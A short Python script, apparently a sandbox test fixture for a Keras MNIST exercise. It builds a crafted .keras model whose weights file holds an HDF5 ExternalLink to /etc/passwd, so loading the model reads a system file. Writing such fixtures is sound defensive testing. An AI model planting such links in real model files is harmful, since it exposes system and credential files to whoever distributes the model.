# partly: a file of weights takes in another file from where it is loaded
# landlock: student-error
# exercise: dense-networks/mnist/first-network
import zipfile

import h5py
import keras
from keras.layers import Dense, Input

model = keras.Sequential([Input((784,)), Dense(800, "relu"), Dense(400, "relu"), Dense(10, "softmax")])
model.compile("adam", "categorical_crossentropy")
model.save("/tmp/honest.keras")
with zipfile.ZipFile("/tmp/honest.keras") as honest, zipfile.ZipFile("/evidence/model.keras", "w") as archive:
    honest.extract("model.weights.h5", "/tmp")
    with h5py.File("/tmp/model.weights.h5", "r+") as weights:
        del weights["layers/dense/vars/0"]
        weights["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")
    archive.writestr("config.json", honest.read("config.json"))
    archive.write("/tmp/model.weights.h5", "model.weights.h5")
model = None
